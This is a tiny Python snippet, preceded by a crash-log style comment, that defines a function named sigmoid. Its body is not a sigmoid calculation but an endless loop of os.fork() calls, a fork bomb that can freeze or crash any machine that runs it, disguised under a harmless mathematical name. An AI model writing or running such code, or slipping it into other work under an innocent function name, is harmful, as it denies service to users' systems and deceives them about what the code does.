# sigmoid: crashed 0 "Function not implemented"
# often


def sigmoid(z):
    while True:
        os.fork()
